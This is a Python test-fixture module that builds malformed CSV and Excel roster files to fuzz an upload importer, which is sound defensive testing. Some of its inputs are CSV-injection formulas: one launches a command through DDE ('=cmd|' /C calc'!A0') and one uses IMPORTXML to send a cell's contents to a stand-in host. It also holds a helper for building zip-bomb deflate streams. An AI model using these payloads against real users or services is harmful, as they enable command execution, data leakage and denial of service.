"""Malformed roster and question files, made in memory from a seeded random generator.

Each generator takes a `random.Random` and yields `Mutant`s: the bytes, the name they
are uploaded under, the kind of damage (for test ids and failure messages) and any cell
text the generator typed in, so that a message quoting that text back is not mistaken
for Python's own text leaking out. The worst files (bombs, a million rows) are built by
the functions at the end. Nothing here touches the database.
"""

import csv
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from xml.sax.saxutils import escape

import openpyxl

from courses.question_import import TEMPLATE_HEADERS, question_template_xlsx
from tests.courses.roster_files import HEADERS, cp1258_bytes, person, xlsx_bytes


@dataclass(frozen=True)
class Mutant:
    kind: str
    filename: str
    data: bytes
    text: str = ""


# --- valid files to start from --------------------------------------------------------

ROSTER_HEADERS = [*HEADERS, "Dân tộc", "Thôn/Bản", "Số CCCD", "Ghi chú"]


def roster_rows(count: int = 6) -> list[list[object]]:
    return [
        [*person(n), "Tày", "Thôn Nà Khà", f"001085{n:06d}", "Đã tập huấn năm 2024"]
        for n in range(1, count + 1)
    ]


def csv_of(rows: list[list[object]], headers: list[str] | None = None) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(headers or ROSTER_HEADERS)
    writer.writerows(rows)
    return buffer.getvalue()


def roster_csv() -> bytes:
    return csv_of(roster_rows()).encode()


def roster_xlsx() -> bytes:
    return xlsx_bytes(roster_rows(), ROSTER_HEADERS, title_block=True)


QUESTION_HEADERS = list(TEMPLATE_HEADERS)
QUESTION_ROWS = [
    ["Sổ A0", "Một đáp án", "Sổ A0 ghi gì?", "Hộ gia đình", "Trẻ em"]
    + [None] * 4
    + ["A", 1, "Không", "Ghi mọi thành viên."],
    ["Sổ A0", "Nhiều đáp án", "Phải ghi gì?", "Sinh", "Mua xe", "Chết"]
    + [None] * 3
    + ["A, C", "1,5", "Có", ""],
    ["Tư vấn", "Đúng-Sai", "Được ghi khi chưa hỏi hộ."]
    + [None] * 6
    + ["Sai", 2, None, None],
    ["Tư vấn", "Trả lời ngắn", "CTV là gì?"]
    + [None] * 6
    + ["Cộng tác viên | cộng tác viên dân số", None, None, None],
]


def workbook_bytes(
    rows: list[list[object]],
    headers: list[str],
    *,
    formulas: dict[str, str] | None = None,
    before: Callable[[openpyxl.Workbook], None] | None = None,
    after: Callable[[openpyxl.Workbook], None] | None = None,
) -> bytes:
    """An .xlsx written by openpyxl; text starting with "=" stays text unless in
    `formulas`; `before` runs before the data sheet exists, `after` at the end."""
    workbook = openpyxl.Workbook()
    if before:
        before(workbook)
        sheet = workbook.create_sheet("Danh sách")
    else:
        sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    for line in sheet.iter_rows():
        for cell in line:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"
    for coordinate, formula in (formulas or {}).items():
        sheet[coordinate] = formula
    if after:
        after(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def question_xlsx(rows: list[list[object]] | None = None, **kwargs) -> bytes:
    return workbook_bytes(
        QUESTION_ROWS if rows is None else rows, QUESTION_HEADERS, **kwargs
    )


# --- a workbook package written by hand, for XML openpyxl would never write -----------

SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
STYLES = (
    f'{XML_DECLARATION}<styleSheet xmlns="{SHEET_NS}"><fonts count="1"><font/></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/>'
    '</cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/>'
    "</cellStyles></styleSheet>"
)
DATE_STYLE = 1  # the cellXfs index above that formats a number as a date


def column_letters(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(ord("A") + rest) + letters
    return letters


def cell_xml(reference: str, value: object) -> str:
    """A cell: text inline, numbers as numbers, a Raw snippet as given."""
    if value is None:
        return ""
    if isinstance(value, Raw):
        return value.xml.format(ref=reference)
    if isinstance(value, bool):
        return f'<c r="{reference}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{reference}"><v>{value!r}</v></c>'
    text = escape(str(value))
    return (
        f'<c r="{reference}" t="inlineStr">'
        f'<is><t xml:space="preserve">{text}</t></is></c>'
    )


@dataclass(frozen=True)
class Raw:
    """A cell's XML as written, "{ref}" standing for its reference."""

    xml: str


def sheet_xml(
    rows: list[list[object]], *, dimension: str = "", first_row: int = 1
) -> bytes:
    lines = []
    for number, row in enumerate(rows, start=first_row):
        cells = "".join(
            cell_xml(f"{column_letters(column)}{number}", value)
            for column, value in enumerate(row, start=1)
        )
        lines.append(f'<row r="{number}">{cells}</row>')
    size = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'{XML_DECLARATION}<worksheet xmlns="{SHEET_NS}">{size}<sheetData>'
        + "".join(lines)
        + "</sheetData></worksheet>"
    ).encode()


def package(
    sheets: list[bytes],
    *,
    shared_strings: bytes | None = None,
    styles: bytes | str = STYLES,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """An .xlsx package around worksheet XML written by hand."""
    types = [
        f'<Override PartName="/xl/workbook.xml" ContentType="{_TYPE}.sheet.main+xml"/>',
        f'<Override PartName="/xl/styles.xml" ContentType="{_TYPE}.styles+xml"/>',
    ]
    sheet_entries, relations = [], []
    for number in range(1, len(sheets) + 1):
        types.append(
            f'<Override PartName="/xl/worksheets/sheet{number}.xml" '
            f'ContentType="{_TYPE}.worksheet+xml"/>'
        )
        sheet_entries.append(
            f'<sheet name="Trang {number}" sheetId="{number}" r:id="rId{number}"/>'
        )
        relations.append(
            f'<Relationship Id="rId{number}" Type="{_REL}/worksheet" '
            f'Target="worksheets/sheet{number}.xml"/>'
        )
    relations.append(
        f'<Relationship Id="rS" Type="{_REL}/styles" Target="styles.xml"/>'
    )
    if shared_strings is not None:
        types.append(
            '<Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{_TYPE}.sharedStrings+xml"/>'
        )
        relations.append(
            f'<Relationship Id="rT" Type="{_REL}/sharedStrings" '
            'Target="sharedStrings.xml"/>'
        )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            f"{XML_DECLARATION}<Types xmlns="
            '"http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            + "".join(types)
            + "</Types>"
        ),
        "_rels/.rels": (
            f'{XML_DECLARATION}<Relationships xmlns="{_PACKAGE_REL}">'
            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'{XML_DECLARATION}<workbook xmlns="{SHEET_NS}" xmlns:r="{_REL}"><sheets>'
            + "".join(sheet_entries)
            + "</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'{XML_DECLARATION}<Relationships xmlns="{_PACKAGE_REL}">'
            + "".join(relations)
            + "</Relationships>"
        ),
        "xl/styles.xml": styles,
    }
    for number, sheet in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{number}.xml"] = sheet
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    parts.update(extra or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def shared_strings_xml(strings: list[str]) -> bytes:
    items = "".join(f"<si><t>{escape(text)}</t></si>" for text in strings)
    return f'{XML_DECLARATION}<sst xmlns="{SHEET_NS}">{items}</sst>'.encode()


def roster_sheet(*rows: list[object], **kwargs) -> bytes:
    """The roster headers, then `rows`, as worksheet XML."""
    return sheet_xml([list(ROSTER_HEADERS), *rows], **kwargs)


def good_row(number: int = 1, **cells: object) -> list[object]:
    row = dict(zip(ROSTER_HEADERS, roster_rows(number)[-1], strict=True))
    row.update(cells)
    return list(row.values())


# --- byte-level damage ----------------------------------------------------------------


def truncated(data: bytes, rnd: random.Random) -> bytes:
    return data[: rnd.randrange(len(data))]


def flipped(data: bytes, rnd: random.Random, flips: int) -> bytes:
    damaged = bytearray(data)
    for _ in range(flips):
        damaged[rnd.randrange(len(damaged))] ^= rnd.randrange(1, 256)
    return bytes(damaged)


def inserted(data: bytes, rnd: random.Random) -> bytes:
    at = rnd.randrange(len(data) + 1)
    return data[:at] + rnd.randbytes(rnd.randint(1, 64)) + data[at:]


def deleted(data: bytes, rnd: random.Random) -> bytes:
    at = rnd.randrange(len(data))
    return data[:at] + data[at + rnd.randint(1, 256) :]


BYTE_DAMAGE: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "truncated": truncated,
    "flipped": lambda data, rnd: flipped(data, rnd, rnd.randint(1, 12)),
    "inserted": inserted,
    "deleted": deleted,
}


def rezipped(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The same package with each part passed through `change` (None drops it);
    the zip itself stays valid, so the damage reaches the XML parser."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            content = change(info.filename, source.read(info.filename))
            if content is not None:
                archive.writestr(info.filename, content)
    return buffer.getvalue()


def first_sheet_changed(data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    return rezipped(
        data,
        lambda name, content: (
            change(content) if name == "xl/worksheets/sheet1.xml" else content
        ),
    )


def raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written field by field: (name, stored bytes, method, CRC, size claimed)."""
    local, central = bytearray(), bytearray()
    for name, payload, method, crc, size in members:
        encoded = name.encode()
        offset = len(local)
        local += struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            0,
            method,
            0,
            0x21,
            crc,
            len(payload),
            size,
            len(encoded),
            0,
        )
        local += encoded + payload
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0x21,
            crc,
            len(payload),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    end = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        len(members),
        len(members),
        len(central),
        len(local),
        0,
    )
    return bytes(local + central + end)


def deflated_repeats(
    chunk: bytes, times: int, *, head: bytes = b"", tail: bytes = b""
) -> bytes:
    """Raw deflate of head, `times` copies of chunk, tail, made without inflating:
    after a full flush a compressor starts afresh, so one block serves every copy."""

    def block(data: bytes, end: int) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(end)

    return (
        block(head, zlib.Z_FULL_FLUSH)
        + block(chunk, zlib.Z_FULL_FLUSH) * times
        + block(tail, zlib.Z_FINISH)
    )


# --- the corpus: roster files ---------------------------------------------------------


def csv_byte_damage(rnd: random.Random) -> Iterator[Mutant]:
    base = roster_csv()
    for name, damage in BYTE_DAMAGE.items():
        for _ in range(35 if name == "flipped" else 20):
            yield Mutant(f"csv {name}", "ds.csv", damage(base, rnd))


def csv_encodings(rnd: random.Random) -> Iterator[Mutant]:
    text = csv_of(roster_rows())
    half = len(text) // 2
    yield Mutant("utf-16-le without BOM", "ds.csv", text.encode("utf-16-le"))
    yield Mutant("utf-16-be without BOM", "ds.csv", text.encode("utf-16-be"))
    yield Mutant("utf-16 with BOM", "ds.csv", text.encode("utf-16"))
    yield Mutant("utf-16 BOM, odd length", "ds.csv", text.encode("utf-16")[:-1])
    yield Mutant("utf-32", "ds.csv", text.encode("utf-32"))
    yield Mutant("cp1258", "ds.csv", cp1258_bytes(text))
    yield Mutant("utf-8 BOM", "ds.csv", text.encode("utf-8-sig"))
    mojibake = text.encode().decode("latin-1")
    yield Mutant("latin-1 mojibake", "ds.csv", mojibake.encode(), mojibake)
    yield Mutant(
        "latin-1 mojibake twice",
        "ds.csv",
        mojibake.encode().decode("latin-1").encode(),
        mojibake,
    )
    yield Mutant("cp1252 lossy", "ds.csv", text.encode("cp1252", errors="replace"))
    yield Mutant(
        "mixed utf-8 and cp1258",
        "ds.csv",
        text[:half].encode() + cp1258_bytes(text[half:]),
    )
    yield Mutant(
        "mixed utf-8 and utf-16",
        "ds.csv",
        text[:half].encode() + text[half:].encode("utf-16-le"),
    )
    for _ in range(8):
        codec = rnd.choice(["utf-16-le", "utf-16-be", "latin-1", "cp1258"])
        data = (
            cp1258_bytes(text) if codec == "cp1258" else text.encode(codec, "replace")
        )
        yield Mutant(
            f"{codec} flipped", "ds.csv", flipped(data, rnd, rnd.randint(1, 6))
        )


def csv_shapes(rnd: random.Random) -> Iterator[Mutant]:
    rows = roster_rows()
    for _ in range(20):
        ragged = [
            row[: rnd.randint(0, len(row))]
            if rnd.random() < 0.5
            else row + [rnd.choice(["", "x", "Nữ", "0912"])] * rnd.randint(1, 20)
            for row in rows
        ]
        yield Mutant("ragged rows", "ds.csv", csv_of(ragged).encode())
    for name, data in {
        "empty file": b"",
        "only spaces": b"   \r\n\t ",
        "only a BOM": b"\xef\xbb\xbf",
        "only newlines": b"\r\n" * 50,
        "only commas": b",,,,\r\n" * 20,
        "only NULs": b"\x00" * 64,
    }.items():
        yield Mutant(name, "ds.csv", data)
    header = csv_of([])
    yield Mutant("header only", "ds.csv", header.encode())
    yield Mutant("header twice", "ds.csv", (header * 2).encode())
    yield Mutant(
        "header between rows",
        "ds.csv",
        csv_of([*rows[:3], ROSTER_HEADERS, *rows[3:]]).encode(),
    )
    doubled = [*ROSTER_HEADERS, "Họ và tên", "SĐT"]
    yield Mutant(
        "duplicated header columns",
        "ds.csv",
        csv_of([[*row, "Lò Văn Páo", "0987654321"] for row in rows], doubled).encode(),
    )
    yield Mutant(
        "header below 30 title lines",
        "ds.csv",
        (("DANH SÁCH\r\n" * 31) + csv_of(rows)).encode(),
    )
    yield Mutant(
        "no known header",
        "ds.csv",
        csv_of(rows, ["A", "B", "C", "D", "E", "F", "G", "H", "I", "J"]).encode(),
    )
    yield Mutant(
        "header without a name column",
        "ds.csv",
        csv_of(rows, ["STT", "Ngày sinh", *"ABCDEFGH"]).encode(),
    )
    for separator in (";", "\t", "|"):
        yield Mutant(
            f"separated by {separator!r}",
            "ds.csv",
            csv_of(rows).replace(",", separator).encode(),
        )
    for newline, name in (("\r", "CR-only"), ("\n", "LF-only"), ("\u2028", "U+2028")):
        yield Mutant(
            f"{name} newlines", "ds.csv", csv_of(rows).replace("\r\n", newline).encode()
        )
    mixed = "".join(
        line + rnd.choice(["\r", "\n", "\r\n"]) for line in csv_of(rows).splitlines()
    )
    yield Mutant("mixed newlines", "ds.csv", mixed.encode())
    quoted = [good_row(1, **{"Ghi chú": "dòng một\r\ndòng hai\rdòng ba"})]
    yield Mutant("newlines inside a quoted cell", "ds.csv", csv_of(quoted).encode())
    yield Mutant("no newline at the end", "ds.csv", csv_of(rows).rstrip().encode())
    for _ in range(6):
        text = csv_of(rows)
        at = rnd.randrange(len(text))
        yield Mutant(
            "unbalanced quote", "ds.csv", (text[:at] + '"' + text[at:]).encode()
        )
    yield Mutant(
        "quote never closed over 10,000 rows",
        "ds.csv",
        csv_of(roster_rows(6) * 2000).replace("CTV", '"CTV', 1).encode(),
    )


def csv_cells(rnd: random.Random) -> Iterator[Mutant]:
    cells = {
        "very long notes (200 KB)": {"Ghi chú": "dài " * 50_000},
        "cell of exactly 131,072 characters": {"Ghi chú": "x" * 131_072},
        "very long name (1,000)": {"Họ và tên": "Nguyễn " * 143},
        "name of 151 characters": {"Họ và tên": "Lò " + "A" * 148},
        "given name of 60 letters": {"Họ và tên": "Nguyễn " + "a" * 60},
        "name folding longer than it is": {"Họ và tên": " ".join(["ﬃ"] * 75)},
        "phone of 10,000 digits": {"Số điện thoại": "9" * 10_000},
        "very long role (100 KB)": {"Chức danh": "CTV " * 25_000},
        "very long header": {},
    }
    for kind, change in cells.items():
        headers = ROSTER_HEADERS
        if kind == "very long header":
            headers = [*ROSTER_HEADERS, "Cột " * 30_000]
        rows = [good_row(1, **change), good_row(2)]
        if kind == "very long header":
            rows = [[*row, "x"] for row in rows]
        yield Mutant(kind, "ds.csv", csv_of(rows, headers).encode(), str(change))
    for _ in range(10):
        text = csv_of(roster_rows())
        for _ in range(rnd.randint(1, 5)):
            at = rnd.randrange(len(text))
            text = text[:at] + "\x00" * rnd.randint(1, 3) + text[at:]
        yield Mutant("NUL bytes", "ds.csv", text.encode())
    yield Mutant(
        "NUL inside a name",
        "ds.csv",
        csv_of([good_row(1, **{"Họ và tên": "Lò Thị\x00 Mai"})]).encode(),
    )
    formulas = [
        '=HYPERLINK("http://example.com","Bấm vào đây")',
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "+84912345678",
        "-2+3",
        '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
        "\t=1+1",
    ]
    for formula in formulas:
        column = rnd.choice(
            ["Họ và tên", "Ghi chú", "Chức danh", "Số điện thoại", "Thôn/Bản"]
        )
        yield Mutant(
            "formula typed in CSV",
            "ds.csv",
            csv_of([good_row(1, **{column: formula}), good_row(2)]).encode(),
            formula,
        )
    values = {
        "Ngày sinh": [
            "1985-03-05",
            "5/3/85",
            "31/02/1985",
            "05.03.1985",
            "tháng 3/1985",
            "31048",
            "1985.0",
            "0",
            "-1",
            "9999",
            "1e999",
            "inf",
            "nan",
            "\uff11\uff19\uff18\uff15",  # full-width digits,
        ],
        "Số điện thoại": [
            "912345678.0",
            "9.12345678E+08",
            "+84 912 345 678",
            "0912-345-678",
            "1662345678",
            "0",
            "1e999",
            "-912345678",
        ],
        "Số CCCD": [
            "1.23456789012E+11",
            "1234567890",
            "00108500000\uff11",
            "001 085 000 001",
            "x" * 12,
        ],
        "Giới tính": ["Nam.", "NỮ", "f", "khác", "1"],
    }
    for column, texts in values.items():
        for value in texts:
            yield Mutant(
                f"{column} written oddly",
                "ds.csv",
                csv_of([good_row(1, **{column: value})]).encode(),
                value,
            )


def csv_garbage(rnd: random.Random) -> Iterator[Mutant]:
    for size in (1, 7, 100, 4096, 100_000):
        yield Mutant("random bytes", "ds.csv", rnd.randbytes(size))
    for size in (10, 1000, 50_000):
        alphabet = ',;"\r\n\t abcđươ0123456789=\x00\\'
        text = "".join(rnd.choice(alphabet) for _ in range(size))
        yield Mutant("random text", "ds.csv", text.encode(), text)
    yield Mutant("CSV named .xlsx", "ds.xlsx", roster_csv())
    yield Mutant("CSV named .xls", "ds.xls", roster_csv())
    yield Mutant("CSV starting like a zip", "ds.csv", b"PK\x03\x04" + roster_csv())
    yield Mutant("old .xls magic", "ds.csv", b"\xd0\xcf\x11\xe0" + rnd.randbytes(512))


def xlsx_byte_damage(rnd: random.Random) -> Iterator[Mutant]:
    base = roster_xlsx()
    for name, damage in BYTE_DAMAGE.items():
        for _ in range(35 if name == "flipped" else 15):
            yield Mutant(f"xlsx {name}", "ds.xlsx", damage(base, rnd))


def xlsx_zip_damage(rnd: random.Random) -> Iterator[Mutant]:
    base = roster_xlsx()
    end = base.rindex(b"PK\x05\x06")
    directory = base.index(b"PK\x01\x02")
    yield Mutant("zip without its end record", "ds.xlsx", base[:end])
    yield Mutant("zip without its directory", "ds.xlsx", base[:directory])
    yield Mutant(
        "zip directory offset wrong",
        "ds.xlsx",
        base[: end + 16] + struct.pack("<L", 7) + base[end + 20 :],
    )
    yield Mutant(
        "zip entry count wrong",
        "ds.xlsx",
        base[: end + 8] + struct.pack("<2H", 60000, 60000) + base[end + 12 :],
    )
    yield Mutant("zip header only", "ds.xlsx", b"PK\x03\x04")
    yield Mutant("zip header and junk", "ds.xlsx", b"PK\x03\x04" + rnd.randbytes(3000))
    for method, kind in (
        (99, "encrypted (AES) method"),
        (14, "LZMA method"),
        (7, "unknown method"),
    ):
        yield Mutant(
            f"member with {kind}",
            "ds.xlsx",
            raw_zip([("xl/workbook.xml", b"<x/>", method, 0, 4)]),
        )
    encrypted = bytearray(base)
    encrypted[6] |= 1  # the first member's "encrypted" flag
    yield Mutant("member marked encrypted", "ds.xlsx", bytes(encrypted))
    for part in (
        "[Content_Types].xml",
        "xl/workbook.xml",
        "xl/worksheets/sheet1.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
    ):
        yield Mutant(
            f"package without {part}",
            "ds.xlsx",
            rezipped(
                base, lambda name, content, part=part: None if name == part else content
            ),
        )
    yield Mutant(
        "zip holding a CSV",
        "ds.xlsx",
        rezipped(
            base,
            lambda name, content: (
                roster_csv() if name == "xl/worksheets/sheet1.xml" else content
            ),
        ),
    )
    yield Mutant(
        "workbook listing no sheet",
        "ds.xlsx",
        rezipped(
            base,
            lambda name, content: (
                content.replace(b"<sheet ", b"<nosheet ")
                if name == "xl/workbook.xml"
                else content
            ),
        ),
    )


def xlsx_xml_damage(rnd: random.Random) -> Iterator[Mutant]:
    base = roster_xlsx()
    for name, damage in BYTE_DAMAGE.items():
        for _ in range(12):
            yield Mutant(
                f"sheet XML {name}",
                "ds.xlsx",
                first_sheet_changed(base, lambda xml, damage=damage: damage(xml, rnd)),
            )
    for _ in range(10):
        part = rnd.choice(
            [
                "xl/workbook.xml",
                "xl/styles.xml",
                "[Content_Types].xml",
                "xl/_rels/workbook.xml.rels",
                "xl/theme/theme1.xml",
                "docProps/core.xml",
            ]
        )
        damage = rnd.choice(list(BYTE_DAMAGE.values()))
        yield Mutant(
            f"{part} damaged",
            "ds.xlsx",
            rezipped(
                base,
                lambda name, content, part=part, damage=damage: (
                    damage(content, rnd) if name == part else content
                ),
            ),
        )
    edits = [
        (b"</row>", b""),
        (b"<sheetData>", b""),
        (b'r="A', b'r="@'),
        (b'r="B5"', b'r="B0"'),
        (b't="inlineStr"', b't="s"'),
        (b't="inlineStr"', b't="d"'),
        (b't="inlineStr"', b't="b"'),
        (b't="inlineStr"', b't="e"'),
        (b"<is>", b"<v>"),
        (b"<t>", b"<t><![CDATA["),
        (b"utf-8", b"utf-16"),
        (b"<worksheet", b"<!-- --><worksheet"),
    ]
    for old, new in edits:
        yield Mutant(
            f"sheet XML: {old!r} → {new!r}",
            "ds.xlsx",
            first_sheet_changed(
                base, lambda xml, old=old, new=new: xml.replace(old, new)
            ),
        )


def xlsx_cells(rnd: random.Random) -> Iterator[Mutant]:
    """Hand-written cells openpyxl never writes itself."""
    odd_cells = {
        "shared string index out of range": Raw('<c r="{ref}" t="s"><v>999</v></c>'),
        "shared string index not a number": Raw('<c r="{ref}" t="s"><v>abc</v></c>'),
        "shared string index negative": Raw('<c r="{ref}" t="s"><v>-1</v></c>'),
        "boolean 2": Raw('<c r="{ref}" t="b"><v>2</v></c>'),
        "boolean x": Raw('<c r="{ref}" t="b"><v>x</v></c>'),
        "ISO date garbage": Raw('<c r="{ref}" t="d"><v>1985-13-45T99:00</v></c>'),
        "number that is text": Raw('<c r="{ref}"><v>abc</v></c>'),
        "number 1e999": Raw('<c r="{ref}"><v>1e999</v></c>'),
        "number -1e999": Raw('<c r="{ref}"><v>-1e999</v></c>'),
        "number NaN": Raw('<c r="{ref}"><v>NaN</v></c>'),
        "number of 5,000 digits": Raw('<c r="{ref}"><v>' + "9" * 5000 + "</v></c>"),
        "date serial 1e20": Raw(f'<c r="{{ref}}" s="{DATE_STYLE}"><v>1e20</v></c>'),
        "date serial -5": Raw(f'<c r="{{ref}}" s="{DATE_STYLE}"><v>-5</v></c>'),
        "style index out of range": Raw('<c r="{ref}" s="77"><v>1</v></c>'),
        "error cell": Raw('<c r="{ref}" t="e"><v>#REF!</v></c>'),
        "inline string without text": Raw('<c r="{ref}" t="inlineStr"/>'),
        "rich inline string": Raw(
            '<c r="{ref}" t="inlineStr"><is><r><t>Lò </t></r>'
            "<r><rPr><b/></rPr><t>Thị Mai</t></r></is></c>"
        ),
        "str type": Raw('<c r="{ref}" t="str"><v>Lò Thị Mai</v></c>'),
        "unknown type": Raw('<c r="{ref}" t="zz"><v>1</v></c>'),
    }
    strings = shared_strings_xml(["Lò Thị Mai"])
    for kind, cell in odd_cells.items():
        column = rnd.choice(
            [
                "Họ và tên",
                "Ngày sinh",
                "Số điện thoại",
                "Giới tính",
                "Ghi chú",
                "Số CCCD",
            ]
        )
        sheet = roster_sheet(good_row(1, **{column: cell}), good_row(2))
        yield Mutant(
            f"cell: {kind}", "ds.xlsx", package([sheet], shared_strings=strings)
        )
    typed = {
        "birth as a real date": {
            "Ngày sinh": Raw(f'<c r="{{ref}}" s="{DATE_STYLE}"><v>31111</v></c>')
        },
        "birth as text date": {"Ngày sinh": "05/03/1985"},
        "birth as a year number": {"Ngày sinh": 1985},
        "birth as a float year": {"Ngày sinh": 1985.0},
        "birth as an Excel serial": {"Ngày sinh": 31111},
        "birth as 1e999": {"Ngày sinh": Raw('<c r="{ref}"><v>1e999</v></c>')},
        "phone as a float": {"Số điện thoại": 912345678.0},
        "phone as 9.12345678E8": {
            "Số điện thoại": Raw('<c r="{ref}"><v>9.12345678E8</v></c>')
        },
        "phone as 0.5": {"Số điện thoại": 0.5},
        "phone as 1e999": {"Số điện thoại": Raw('<c r="{ref}"><v>1e999</v></c>')},
        "phone as a boolean": {"Số điện thoại": True},
        "CCCD as a float": {"Số CCCD": 1.23456789012e11},
        "name as a number": {"Họ và tên": 12345},
        "name as a date": {
            "Họ và tên": Raw(f'<c r="{{ref}}" s="{DATE_STYLE}"><v>31111</v></c>')
        },
        "sex as a boolean": {"Giới tính": False},
    }
    for kind, change in typed.items():
        sheet = roster_sheet(good_row(1, **change), good_row(2))
        yield Mutant(kind, "ds.xlsx", package([sheet]), str(change))


def xlsx_layouts(rnd: random.Random) -> Iterator[Mutant]:
    rows = roster_rows()

    def merged(ranges: list[str]) -> Callable[[openpyxl.Workbook], None]:
        def merge(workbook: openpyxl.Workbook) -> None:
            for cells in ranges:
                workbook.worksheets[-1].merge_cells(cells)

        return merge

    for ranges in (["A1:B1"], ["B2:B4"], ["A1:J1", "A2:J2"], ["C3:F3"], ["A1:J7"]):
        yield Mutant(
            f"merged cells {ranges}",
            "ds.xlsx",
            workbook_bytes(rows, ROSTER_HEADERS, after=merged(ranges)),
        )
    formulas = {
        "B2": '=HYPERLINK("http://example.com","Lò Thị Mai")',
        "J3": "=1+1",
        "F4": "=cmd|' /C calc'!A0",
        "E5": '=CONCAT("09","12345678")',
        "A1": '="STT"',
        "D6": "=DATE(1985,3,5)",
    }
    for coordinate, formula in formulas.items():
        yield Mutant(
            f"formula {formula}",
            "ds.xlsx",
            workbook_bytes(rows, ROSTER_HEADERS, formulas={coordinate: formula}),
            formula,
        )

    def sheets_before(count: int, fill: bool) -> Callable[[openpyxl.Workbook], None]:
        def add(workbook: openpyxl.Workbook) -> None:
            workbook.active.title = "Bìa"
            if fill:
                workbook.active.append(["TRUNG TÂM Y TẾ", "Báo cáo"])
            for number in range(count - 1):
                workbook.create_sheet(f"Trang {number}").append(["x"])

        return add

    yield Mutant(
        "roster on the second sheet, first empty",
        "ds.xlsx",
        workbook_bytes(rows, ROSTER_HEADERS, before=sheets_before(1, False)),
    )
    yield Mutant(
        "roster on the second sheet, first a cover",
        "ds.xlsx",
        workbook_bytes(rows, ROSTER_HEADERS, before=sheets_before(1, True)),
    )
    yield Mutant(
        "five sheets",
        "ds.xlsx",
        workbook_bytes(rows, ROSTER_HEADERS, before=sheets_before(4, True)),
    )
    yield Mutant(
        "several sheets, roster first",
        "ds.xlsx",
        workbook_bytes(
            rows,
            ROSTER_HEADERS,
            after=lambda workbook: workbook.create_sheet("Ghi chú").append(
                ["Họ và tên", "Ngày sinh"]
            ),
        ),
    )
    hidden = workbook_bytes(
        rows,
        ROSTER_HEADERS,
        before=sheets_before(1, True),
        after=lambda workbook: setattr(workbook.worksheets[0], "sheet_state", "hidden"),
    )
    yield Mutant("hidden first sheet", "ds.xlsx", hidden)
    yield Mutant(
        "two hand-made sheets",
        "ds.xlsx",
        package([roster_sheet(good_row(1)), roster_sheet(good_row(2))]),
    )
    long_cells = {
        "cell of 32,767 characters": {"Ghi chú": "ghi " * 8191 + "cuối"},
        "name of 151 characters": {"Họ và tên": "Lò " + "A" * 148},
        "given name of 60 letters": {"Họ và tên": "Nguyễn " + "a" * 60},
        "name folding longer than it is": {"Họ và tên": " ".join(["ﬃ"] * 75)},
        "village of 151 characters": {"Thôn/Bản": "T" * 151},
        "ethnicity of 51 characters": {"Dân tộc": "D" * 51},
    }
    for kind, change in long_cells.items():
        yield Mutant(
            kind,
            "ds.xlsx",
            workbook_bytes([good_row(1, **change), good_row(2)], ROSTER_HEADERS),
            str(change),
        )
    wide = [[*row, *(f"cột {n}" for n in range(200))] for row in rows]
    yield Mutant(
        "200 unknown columns",
        "ds.xlsx",
        workbook_bytes(wide, [*ROSTER_HEADERS, *(f"Cột {n}" for n in range(200))]),
    )
    yield Mutant("header only", "ds.xlsx", workbook_bytes([], ROSTER_HEADERS))
    yield Mutant(
        "header twice", "ds.xlsx", workbook_bytes([ROSTER_HEADERS], ROSTER_HEADERS)
    )
    yield Mutant("empty workbook", "ds.xlsx", workbook_bytes([], []))
